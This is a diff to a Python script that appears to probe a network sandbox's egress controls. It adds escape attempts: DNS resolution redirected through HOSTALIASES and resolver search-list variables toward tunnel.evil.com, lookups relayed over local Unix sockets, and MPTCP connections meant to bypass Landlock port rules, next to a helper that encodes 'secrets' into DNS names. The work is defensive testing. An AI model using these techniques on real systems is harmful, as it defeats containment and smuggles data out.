@@ -10,8 +10,12 @@ import os
 import socket
 import ssl
 import struct
+import subprocess
 import sys
+import tempfile
 import time
+
+import hosts
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 CONTEXT = ssl.create_default_context(cafile=os.path.join(HERE, 'ca.pem'))
@@ -99,6 +103,35 @@ def moving():
     return ' '.join(sorted(set(seen)))
 
 
+def expanded(name, **env):
+    """What the C library makes of a short name."""
+    with tempfile.NamedTemporaryFile('w') as aliases:
+        aliases.write('row-1018 row-1018.tunnel.evil.com\n')
+        aliases.flush()
+        p = subprocess.run([sys.executable, '-c', 'import socket, sys; print(socket.getaddrinfo(sys.argv[1], 80)[0][4][0])',
+                            name], env={**os.environ, 'HOSTALIASES': aliases.name, **env}, capture_output=True, text=True)
+    return p.stdout.strip() or p.stderr.strip()[-60:]
+
+
+def local(number, path):
+    """Somebody else is to look it up."""
+    with socket.socket(socket.AF_UNIX) as s:
+        s.settimeout(5)
+        s.connect(path)
+        s.sendall(b'row-%d.tunnel.evil.com' % number)
+        s.recv(1)
+        return 'heard'
+
+
+def multipath(host, number):
+    """Over TCP with several paths, which Landlock's ports do not hold (LL-01)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
+        s.settimeout(5)
+        s.connect((host, 80))
+        s.sendall(b'GET /row-%d HTTP/1.0\r\n\r\n' % number)
+        return s.recv(100)[:15].decode('latin-1') or 'closed'
+
+
 def word(name):
     return '%s.%s.tunnel.evil.com' % (name, '73656372657473' * 3)
 
@@ -121,6 +154,11 @@ TRICKS = {
     'a tunnel to another port': lambda: tunnel('npm-registry.test:65979', 'npm-registry.test', 1014),
     'a tunnel to a closed address': lambda: tunnel('169.254.169.254:443', 'npm-registry.test', 1015),
     'a tunnel to an address of nobody': lambda: tunnel('203.0.113.66:443', 'npm-registry.test', 1016),
+    'a search list': lambda: expanded('row-1017', LOCALDOMAIN='tunnel.evil.com'),
+    'an alias': lambda: expanded('row-1018'),
+    'a search list for names with dots': lambda: expanded('row-1019.a', LOCALDOMAIN='tunnel.evil.com', RES_OPTIONS='ndots:5'),
+    'MPTCP': lambda: multipath('10.0.0.1', 1023),
+    **{path: lambda n=number, p=path: local(n, p) for number, path in enumerate(hosts.LOOKUP, 1020)},
 }
 
 
